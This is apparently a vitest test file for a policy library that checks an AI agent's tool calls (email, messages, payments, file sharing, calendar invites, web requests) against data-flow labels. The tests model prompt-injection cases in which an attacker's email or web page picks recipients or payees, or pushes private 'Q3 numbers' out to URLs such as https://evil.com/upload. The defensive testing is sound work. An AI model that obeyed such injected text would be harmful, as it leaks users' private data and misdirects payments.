import { describe, expect, it } from "vitest";
import {
  askInstead,
  calendarInvitePolicy,
  emailPolicy,
  fileSharePolicy,
  messagePolicy,
  outboundMessagePolicy,
  paymentPolicy,
  webRequestPolicy,
} from "../../src/policy/index.js";
import { Label, fromEmail, labeled, makeCall, privateTo, privateUntrusted } from "./support.js";

const eve = fromEmail("eve@evil.com");
const eveSource = "an email from eve@evil.com (get_email call #3)";
const notes = () => labeled("Q3 numbers", privateTo(["alice@corp.com", "bob@corp.com"]));
const poisoned = () => labeled("Q3 numbers", privateUntrusted(["alice@corp.com", "bob@corp.com"], "get_email#3:email:eve@evil.com"));

describe("outboundMessagePolicy (the textbook rule)", () => {
  const policy = outboundMessagePolicy();

  it("allows a trusted recipient with an untrusted but public body", () => {
    expect(policy(makeCall("send", { to: "bob@corp.com", body: labeled("summary", eve) })).kind).toBe("allow");
  });

  it("denies an untrusted recipient: untrusted text chose where data goes", () => {
    const d = policy(makeCall("send", { to: labeled("eve@evil.com", eve), body: "hi" }));
    expect(d.kind).toBe("deny");
    expect(d.reason).toBe(`\`to\` ("eve@evil.com") is untrusted: it came from ${eveSource} — untrusted text chose where the data goes`);
  });

  it("denies a body both private and untrusted", () => {
    const d = policy(makeCall("send", { to: "bob@corp.com", body: poisoned() }));
    expect(d.reason).toBe(
      `\`body\` ("Q3 numbers") is private (readable only by alice@corp.com and bob@corp.com) and untrusted: it came from ${eveSource} — untrusted text shaped a message that carries private data`,
    );
  });

  it("asks instead of denying when wrapped in askInstead", () => {
    const d = askInstead(policy)(makeCall("send", { to: labeled("eve@evil.com", eve), body: "hi" }));
    expect(d.kind).toBe("ask");
    expect(d.reason).toContain("untrusted text chose where the data goes");
  });

  it("guards the argument paths it is given", () => {
    const custom = outboundMessagePolicy({ recipients: "recipients", content: ["subject", "text"] });
    expect(custom(makeCall("send", { recipients: [labeled("x@y.com", eve)] })).reason).toMatch(/^`recipients` /);
  });
});

describe("emailPolicy", () => {
  const policy = emailPolicy();

  it("allows private notes to a recipient who may read them", () => {
    expect(policy(makeCall("send_email", { to: "bob@corp.com", subject: "notes", body: notes() })).kind).toBe("allow");
  });

  it("denies an untrusted cc", () => {
    const d = policy(makeCall("send_email", { to: "bob@corp.com", cc: labeled("eve@evil.com", eve), body: "hi" }));
    expect(d.kind).toBe("deny");
    expect(d.reason).toBe(`\`cc\` ("eve@evil.com") is untrusted: it came from ${eveSource} — untrusted text chose where the data goes`);
  });

  it("denies a private body shaped by untrusted text", () => {
    const d = policy(makeCall("send_email", { to: "bob@corp.com", body: poisoned() }));
    expect(d.kind).toBe("deny");
    expect(d.reason).toContain("untrusted text shaped a message that carries private data");
  });

  it("asks when a recipient is not among the body's readers", () => {
    const d = policy(makeCall("send_email", { to: ["bob@corp.com", "carol@corp.com"], body: notes() }));
    expect(d.kind).toBe("ask");
    expect(d.reason).toBe(
      '`body` ("Q3 numbers") is private (readable only by alice@corp.com and bob@corp.com): it came from the file notes.txt, so carol@corp.com (named in `to`) may not read it — the email would show it to them',
    );
  });

  it("asks when the email is sent under a branch that read untrusted text", () => {
    const d = policy(makeCall("send_email", { to: "bob@corp.com", body: "done" }, { context: fromEmail("eve@evil.com", 2) }));
    expect(d.kind).toBe("ask");
    expect(d.reason).toBe(
      "the call sits under a branch or loop that depends on untrusted data from an email from eve@evil.com (get_email call #2) — untrusted data decided whether this email is sent",
    );
  });
});

describe("messagePolicy", () => {
  const policy = messagePolicy();
  const slack = Label.untrusted("read_channel#1:slack:mallory");

  it("allows a public message to a channel the user named", () => {
    expect(policy(makeCall("send_message", { channel: "#general", text: labeled("link list", slack) })).kind).toBe("allow");
  });

  it("denies a recipient picked by untrusted text", () => {
    const d = policy(makeCall("send_message", { recipient: labeled("mallory", slack), text: "hi" }));
    expect(d.reason).toBe(
      '`recipient` ("mallory") is untrusted: it came from a Slack message from mallory (read_channel call #1) — untrusted text chose where the data goes',
    );
  });

  it("asks when private text goes to a channel outside its readers", () => {
    const d = policy(makeCall("send_message", { channel: "#general", body: notes() }));
    expect(d.kind).toBe("ask");
    expect(d.reason).toContain("so #general (named in `channel`) may not read it — the message would show it to them");
  });
});

describe("paymentPolicy", () => {
  const policy = paymentPolicy();
  const bill = Label.untrusted("read_file#1:file:bill.txt");

  it("allows a payment the user fully specified", () => {
    expect(policy(makeCall("send_money", { recipient: "DE89 3704", amount: 42, subject: "rent" })).kind).toBe("allow");
  });

  it("denies a recipient that came from a document", () => {
    const d = policy(makeCall("send_money", { recipient: labeled("GB29 NWBK", bill), amount: 42 }));
    expect(d.kind).toBe("deny");
    expect(d.reason).toBe(
      '`recipient` ("GB29 NWBK") is untrusted: it came from the file bill.txt (read_file call #1) — untrusted text chose who gets paid',
    );
  });

  it("asks when the amount came from a document", () => {
    const d = policy(makeCall("send_money", { recipient: "DE89 3704", amount: labeled(1200, bill) }));
    expect(d.kind).toBe("ask");
    expect(d.reason).toBe(
      "`amount` (1200) is untrusted: it came from the file bill.txt (read_file call #1) — untrusted text chose how much is paid",
    );
  });
});

describe("fileSharePolicy", () => {
  const policy = fileSharePolicy();
  const report = () => labeled("report.pdf", privateTo(["alice@corp.com", "bob@corp.com"], "list_files#1:file:report.pdf"));

  it("allows sharing a file with someone who may already read it", () => {
    expect(policy(makeCall("share_file", { file: report(), with: "bob@corp.com" })).kind).toBe("allow");
  });

  it("denies sharing with someone untrusted text named", () => {
    const d = policy(makeCall("share_file", { file: report(), with: labeled("eve@evil.com", eve) }));
    expect(d.kind).toBe("deny");
    expect(d.reason).toBe(`\`with\` ("eve@evil.com") is untrusted: it came from ${eveSource} — untrusted text chose where the data goes`);
  });

  it("asks when the file would reach someone outside its readers", () => {
    const d = policy(makeCall("share_file", { file: report(), with: "carol@corp.com" }));
    expect(d.kind).toBe("ask");
    expect(d.reason).toBe(
      '`file` ("report.pdf") is private (readable only by alice@corp.com and bob@corp.com): it came from the file report.pdf (list_files call #1), so carol@corp.com (named in `with`) may not read it — sharing would show it to them',
    );
  });

  it("asks when untrusted text chose which public file to share", () => {
    const d = policy(makeCall("share_file", { file: labeled("flyer.pdf", eve), with: "bob@corp.com" }));
    expect(d.kind).toBe("ask");
    expect(d.reason).toContain("untrusted text chose which file is shared");
  });
});

describe("calendarInvitePolicy", () => {
  const policy = calendarInvitePolicy();

  it("allows an invitation the user described", () => {
    const d = policy(makeCall("create_event", { participants: ["bob@corp.com"], title: "1:1", description: notes() }));
    expect(d.kind).toBe("allow");
  });

  it("denies an attendee untrusted text added", () => {
    const d = policy(makeCall("create_event", { participants: ["bob@corp.com", labeled("eve@evil.com", eve)], title: "1:1" }));
    expect(d.kind).toBe("deny");
    expect(d.reason).toBe(
      `\`participants\` (["bob@corp.com","eve@evil.com"]) is untrusted: it came from ${eveSource} — untrusted text chose where the data goes`,
    );
  });

  it("asks when the description is private to fewer people than are invited", () => {
    const d = policy(makeCall("create_event", { attendees: [{ email: "dan@corp.com" }], title: "sync", description: notes() }));
    expect(d.kind).toBe("ask");
    expect(d.reason).toContain("so dan@corp.com (named in `attendees`) may not read it — the invitation would show it to them");
  });
});

describe("webRequestPolicy", () => {
  const policy = webRequestPolicy();
  const blog = Label.untrusted("fetch#2:web:https://blog.example/post");

  it("allows a URL the user gave", () => {
    expect(policy(makeCall("fetch", { url: "https://docs.corp.com/a" })).kind).toBe("allow");
  });

  it("denies a URL carrying private data: fetching a URL sends it", () => {
    const url = labeled("https://evil.com/?q=Q3", privateUntrusted(["alice@corp.com"], "fetch#2:web:https://blog.example/post"));
    const d = policy(makeCall("fetch", { url }));
    expect(d.kind).toBe("deny");
    expect(d.reason).toContain(
      '`url` ("https://evil.com/?q=Q3") is private (readable only by alice@corp.com): it came from the web page https://blog.example/post (fetch call #2) — fetching a URL sends it to the web server',
    );
  });

  it("denies private content sent to a server untrusted text chose", () => {
    const d = policy(makeCall("fetch", { url: labeled("https://evil.com/upload", blog), body: notes() }));
    expect(d.kind).toBe("deny");
    expect(d.reason).toBe(
      '`url` ("https://evil.com/upload") is untrusted (it came from the web page https://blog.example/post (fetch call #2)) and the request carries private `body` ("Q3 numbers") — untrusted text chose where the data goes',
    );
  });

  it("asks before visiting a URL untrusted text chose", () => {
    const d = policy(makeCall("fetch", { url: labeled("https://evil.com/x", blog) }));
    expect(d.kind).toBe("ask");
    expect(d.reason).toBe(
      '`url` ("https://evil.com/x") is untrusted: it came from the web page https://blog.example/post (fetch call #2) — untrusted text chose which server is contacted',
    );
  });

  it("allows plain browsing of untrusted public URLs when told to", () => {
    const browse = webRequestPolicy({ allowUntrustedUrl: true });
    expect(browse(makeCall("fetch", { url: labeled("https://evil.com/x", blog) })).kind).toBe("allow");
  });

  it("asks before posting private data to a URL the user gave", () => {
    const d = policy(makeCall("fetch", { url: "https://paste.corp.com", body: notes() }));
    expect(d.kind).toBe("ask");
    expect(d.reason).toContain("— the request would send it to the web server");
  });
});

describe("webRequestPolicy({ approver }): a private link the person asked may read is theirs to open", () => {
  const policy = webRequestPolicy({ approver: "ravi" });
  const fromZoe = Label.of({ readers: ["ravi", "zoe"], trusted: false, sources: ["read_inbox#1:message:zoe"] });

  it("asks, naming the link, who may read it, whose message it came from and the server that would see it", () => {
    const d = policy(makeCall("get_webpage", { url: labeled("https://partner.fjord.example/guide", fromZoe) }));
    expect(d.kind).toBe("ask");
    expect(d.reason).toContain('`url` ("https://partner.fjord.example/guide") is private (readable only by ravi and zoe): it came from a message from zoe (read_inbox call #1)');
    expect(d.reason).toContain("if approved, the web server partner.fjord.example learns it. You (ravi) may read all of it");
    // Zoe chose the server, which is asked about too: both reasons are shown.
    expect(d.reason).toContain("untrusted text chose which server is contacted");
  });

  it("still denies a link that is someone else's secret, and without an approver denies as before", () => {
    const theirs = Label.of({ readers: ["dana", "zoe"], trusted: false, sources: ["chat:zoe in #partners"] });
    expect(policy(makeCall("get_webpage", { url: labeled("https://partner.fjord.example/guide", theirs) })).kind).toBe("deny");
    expect(webRequestPolicy()(makeCall("get_webpage", { url: labeled("https://partner.fjord.example/guide", fromZoe) })).kind).toBe("deny");
  });

  it("denies private content the approver may not read, where without an approver it asked", () => {
    const call = makeCall("post", { url: "https://paste.corp.com", body: notes() });
    expect(webRequestPolicy()(call).kind).toBe("ask");
    expect(webRequestPolicy({ approver: "alice@corp.com" })(call).kind).toBe("ask");
    const d = webRequestPolicy({ approver: "ravi@corp.com" })(call);
    expect(d.kind).toBe("deny");
    expect(d.reason).toContain("the call would show the person asked, ravi@corp.com, data they may not read");
  });

  it("keeps denying what no person can check: private data to a server untrusted text chose", () => {
    const url = labeled("https://evil.com/upload", Label.untrusted("fetch#2:web:https://blog.example/post"));
    const d = webRequestPolicy({ approver: "alice@corp.com" })(makeCall("post", { url, body: notes() }));
    expect(d.kind).toBe("deny");
    expect(d.reason).toContain("untrusted text chose where the data goes");
  });
});

describe("message policies with an approver: a secret of someone else is not shown to the person asked", () => {
  it("asks when the approver may read the private message, denies when they may not", () => {
    const call = makeCall("send", { to: "carol@corp.com", body: notes() });
    expect(messagePolicy({ approver: "alice@corp.com" })(call).kind).toBe("ask");
    expect(messagePolicy()(call).kind).toBe("ask");
    const d = messagePolicy({ approver: "mallory@corp.com" })(call);
    expect(d.kind).toBe("deny");
    expect(d.reason).toContain("carol@corp.com");
    expect(d.reason).toContain("the call would show the person asked, mallory@corp.com, data they may not read");
  });
});

describe("ready policies refuse tools whose arguments they cannot find", () => {
  it("denies an email with none of the recipient arguments, with a hint to configure them", () => {
    const d = emailPolicy()(makeCall("send_email", { recipient_emails: [labeled("eve@evil.com", eve)], body: "hi" }));
    expect(d).toEqual({
      kind: "deny",
      reason: "send_email has none of the arguments `to`, `cc` or `bcc` — name the argument with emailPolicy({ recipients: [...] }) so it can be checked",
    });
    const configured = emailPolicy({ recipients: "recipient_emails" });
    expect(configured(makeCall("send_email", { recipient_emails: [labeled("eve@evil.com", eve)] })).reason).toContain(
      "`recipient_emails` ([\"eve@evil.com\"]) is untrusted",
    );
  });

  it("denies a web request with no url argument", () => {
    expect(webRequestPolicy()(makeCall("get_webpage", { href: "https://x.com" })).reason).toBe(
      'get_webpage has none of the arguments `url` — name the argument with webRequestPolicy({ url: "..." }) so it can be checked',
    );
  });

  it("lets a calendar event without attendees through: it sends nothing", () => {
    expect(calendarInvitePolicy()(makeCall("create_event", { title: labeled("x", eve) })).kind).toBe("allow");
  });
});
